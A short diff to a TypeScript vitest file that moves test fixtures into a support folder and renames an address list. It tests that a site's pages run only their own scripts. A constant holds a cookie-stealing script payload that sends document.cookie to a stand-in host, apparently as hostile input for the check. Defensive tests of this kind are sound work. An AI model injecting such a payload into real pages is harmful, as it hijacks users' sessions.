@@ -1,8 +1,7 @@
 import { createHash } from 'node:crypto'
 import { expect, test } from 'vitest'
-import { SENT_GIFT } from '../fixtures/sent-forms.ts'
-import { ADDRESSES } from './addresses.ts'
-import { testSite } from './site-fixture.ts'
+import { SENT_GIFT } from '../support/people.ts'
+import { EVERY_ADDRESS, testSite } from '../support/site/server.ts'
 
 const HOSTILE = 'fetch("https://evil.example/?"+document.cookie)'
 
@@ -43,7 +42,7 @@ test('every page may run all of its own scripts, and does not reveal how they ar
     method: 'POST',
     body: new URLSearchParams(SENT_GIFT),
   })
-  const pages = [...ADDRESSES, given.headers.get('location') ?? '']
+  const pages = [...EVERY_ADDRESS, given.headers.get('location') ?? '']
   let seen = 0
   for (const address of pages) {
     const page = await ask(address)
